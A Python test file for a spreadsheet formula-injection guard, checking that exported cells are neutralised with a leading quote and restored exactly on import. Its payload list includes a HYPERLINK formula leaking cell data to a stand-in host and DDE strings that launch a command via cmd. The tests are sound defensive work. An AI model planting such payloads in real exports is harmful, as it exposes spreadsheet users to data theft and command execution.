"""The formula-injection guard of exports and its exact inverse on import."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clientbase.transfer.formulas import neutralise, restore

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1 312 555 0142",
    "+13125550142",
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_guarded_and_restored_exactly(payload):
    guarded = neutralise(payload)
    assert guarded == "'" + payload
    assert restore(guarded) == payload


@pytest.mark.parametrize("harmless", ["Mike", "mike@example.com", "1 Main St", "", " ", "50 - 60", "a=b"])
def test_harmless_text_is_left_alone(harmless):
    assert neutralise(harmless) == harmless
    assert restore(harmless) == harmless


def test_text_that_starts_with_a_quote_survives_the_round_trip():
    for text in ["'=1+1", "'hello", "'", "''"]:
        assert restore(neutralise(text)) == text


def test_a_quote_a_user_typed_before_ordinary_text_is_kept():
    assert restore("'hello") == "'hello"
    assert restore("'=1+1") == "=1+1"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1"), max_size=6) | st.text(max_size=20))
def test_restore_inverts_neutralise_for_every_text(text):
    assert restore(neutralise(text)) == text
    guarded = neutralise(text)
    assert not guarded.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
